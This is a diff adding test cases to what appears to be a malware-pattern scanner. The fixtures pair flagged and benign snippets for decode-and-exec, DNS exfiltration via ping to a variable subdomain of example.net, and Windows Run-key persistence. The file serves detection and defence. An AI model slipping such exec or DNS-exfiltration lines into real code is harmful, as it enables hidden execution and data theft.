@@ -92,6 +92,18 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "nslookup example.net\n",
     ),
     (
+        decode_and_execute_rule,
+        "n.py",
+        "def dec(s):\n    return s\nexec(dec('" + "QUJD" * 40 + "'))\n",
+        "def dec(s):\n    return s\nprint(dec('" + "QUJD" * 40 + "'))\n",
+    ),
+    (
+        dns_exfiltration_rule,
+        "q.py",
+        "import subprocess\nsubprocess.getoutput(f'ping -c1 {label}.x.example.net')\n",
+        "import subprocess\nsubprocess.getoutput('ping -c1 x.example.net')\n",
+    ),
+    (
         persistence_rule,
         "p.py",
         "key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n",
